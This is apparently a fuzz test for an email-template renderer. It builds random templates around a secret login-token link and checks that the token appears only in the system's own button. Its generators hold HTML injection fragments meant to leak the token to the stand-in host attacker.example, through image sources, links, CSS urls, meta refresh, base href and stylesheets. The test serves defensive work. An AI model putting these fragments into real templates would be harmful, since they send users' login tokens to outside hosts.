import { sampleModel } from '@showdesk/domain/email-templates';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { runRenderTask } from '../features/email-templates/render.ts';
import { secretKinds } from '../test/hostile-templates.ts';

/**
 * Email templates built at random from the pieces an attacker would combine (HTML tags and
 * attributes with every kind of quote, raw-text elements, comments, Liquid blocks, filters,
 * captures, whitespace control) around the secret link's button: whatever the mix, a template
 * is refused, or the live token stands only in the system's button. Bounded runs; the seed is
 * printed so a failure can be replayed (FUZZ_SEED).
 */
const runs = Number(process.env.FUZZ_TEMPLATE_RUNS ?? 400);
const seed = Number(process.env.FUZZ_SEED ?? Date.now() % 2 ** 31);
const layout = { eventName: 'Harbour Expo', navBgColor: '#123456' };
const token = 'Fz9LiveToken0123456789abcdef';

const opening = fc.constantFrom(
  '<img src="https://attacker.example/?',
  "<img src='https://attacker.example/?",
  '<img src=https://attacker.example/?',
  '<a href="https://attacker.example/?',
  "<a href='",
  '<div style="background:url(',
  "<div style='background:url(",
  '<img srcset="a.png 1x, ',
  '<meta http-equiv="refresh" content="0;url=',
  '<!-- ',
  '<title>',
  '<textarea>',
  '<style>',
  '<script>',
  '<noscript>',
  '<xmp>',
  '<iframe srcdoc="',
  '<table><tr><td>',
  '<p>',
  '<a href="https://attacker.example/">',
  '<![CDATA[',
  '<svg><text>',
  '',
);
const closing = fc.constantFrom(
  '">',
  "'>",
  '>',
  ' -->',
  '</title>',
  '</textarea>',
  ')">',
  '</a>',
  '</p>',
  '',
  '"',
  "'",
);
const liquidAround = fc.constantFrom(
  ['', ''],
  ['{% if true %}', '{% endif %}'],
  ['{% unless false %}', '{% endunless %}'],
  ['{% case 1 %}{% when 1 %}', '{% endcase %}'],
  ['{% capture x %}', '{% endcapture %}{{ x }}'],
  ['{% capture x %}', '{% endcapture %}{{ x | url_encode }}'],
  ['{% for i in (1..2) %}', '{% endfor %}'],
  ['{% raw %}', '{% endraw %}'],
  ['{% comment %}', '{% endcomment %}'],
);
const extra = fc.constantFrom(
  '',
  '{{ SECRET }}',
  '{{ SECRET | url_encode }}',
  '{% assign y = SECRET %}{{ y }}',
  '{{ "{{" }} SECRET }}',
  '<base href="https://attacker.example/">',
  '<link rel="stylesheet" href="https://attacker.example/x.css">',
  '<p>{{ firstName }}</p>',
);
const button = fc.constantFrom(
  '{% button SECRET %}',
  '{% button SECRET "Go" %}',
  '{%- button SECRET -%}',
  "{% button SECRET, 'Go' %}",
);

const template = fc
  .tuple(extra, opening, liquidAround, button, closing, extra, fc.boolean())
  .map(([before, open, [liquidOpen, liquidClose], tag, close, after, twice]) =>
    [before, open, liquidOpen, tag, liquidClose, close, after, twice ? tag : ''].join(''),
  );

describe('fuzzing email templates around a secret link', () => {
  it.each(secretKinds)(
    '$kind: refused, or the token only in the system button',
    ({ kind, variable }) => {
      const model = {
        ...sampleModel(kind),
        hasPassword: false,
        [variable]: `https://harbour.example.com/auth/x?mode=x&token=${token}`,
      };
      fc.assert(
        fc.property(template, (source) => {
          const body = source.replaceAll('SECRET', variable);
          const sent = runRenderTask({
            op: 'send',
            kind,
            override: { subject: 'Hi', body },
            layout,
            model,
          });
          if (!('email' in sent)) return false;
          const { html, text, subject } = sent.email;
          expect(html.split(token).length - 1, body).toBe(2);
          expect(html, body).toMatch(new RegExp(`<a data-button href="[^"]*token=${token}"`));
          expect(text.split(token).length - 1, body).toBe(1);
          expect(subject, body).not.toContain(token);
          return true;
        }),
        { numRuns: runs, seed },
      );
    },
  );

  it('prints its seed', () => {
    console.log(`fuzz-templates seed: ${seed} (FUZZ_SEED to replay)`);
  });
});
